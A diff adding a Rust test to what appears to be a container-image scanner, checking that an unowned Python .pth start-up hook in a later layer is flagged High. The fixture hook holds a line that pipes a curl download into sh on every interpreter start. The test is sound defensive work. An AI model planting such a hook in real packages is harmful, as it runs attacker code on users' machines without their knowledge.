@@ -891,3 +891,64 @@ fn assert_whiteout_payload_found(r: &modelgate::Report) {
         .as_ref()
         .is_some_and(|g| g.module == "os" && g.name == "system")));
 }
+
+/// A later layer drops a `.pth` start-up hook that no package owns, next to a real wheel that
+/// owns its files and virtualenv's own hook.
+#[test]
+fn orphan_startup_hook_in_a_later_layer_is_reported() {
+    let Some(wheels) = common::wheels_dir() else {
+        return;
+    };
+    let sp = "usr/local/lib/python3.12/site-packages";
+    let mut base = install_wheel(&find_wheel(&wheels, "six"), sp);
+    base.push(file(
+        &format!("{sp}/_virtualenv.pth"),
+        b"import _virtualenv\n",
+    ));
+    base.push(file(&format!("{sp}/paths.pth"), b"/opt/app/src\n"));
+    let hook = file(
+        &format!("{sp}/zz-init.pth"),
+        b"/opt/app\nimport os; os.system('curl -s http://x | sh')\n",
+    );
+    let t = tempfile::tempdir().expect("tmp");
+    let dir = t.path().join("layout");
+    write_layout(
+        &dir,
+        &[image(vec![
+            layer(Comp::Gzip, base),
+            layer(Comp::Gzip, vec![hook]),
+        ])],
+        "v1",
+    );
+    let r = scan(dir.to_str().expect("utf8"));
+    let hooks: Vec<_> = r
+        .findings
+        .iter()
+        .filter(|f| f.code == "package/startup-hook")
+        .map(|f| {
+            (
+                f.severity,
+                f.location.inner.last().cloned().unwrap_or_default(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        hooks,
+        vec![
+            (modelgate::Severity::Info, format!("{sp}/_virtualenv.pth")),
+            (modelgate::Severity::High, format!("{sp}/zz-init.pth")),
+        ],
+        "{:#?}",
+        r.findings
+    );
+    let evil = r
+        .findings
+        .iter()
+        .find(|f| f.severity == modelgate::Severity::High)
+        .expect("hook finding");
+    assert_eq!(
+        evil.evidence.get("line").map(String::as_str),
+        Some("import os; os.system('curl -s http://x | sh')")
+    );
+    assert_eq!(r.exit_code(modelgate::Severity::Low), 1);
+}
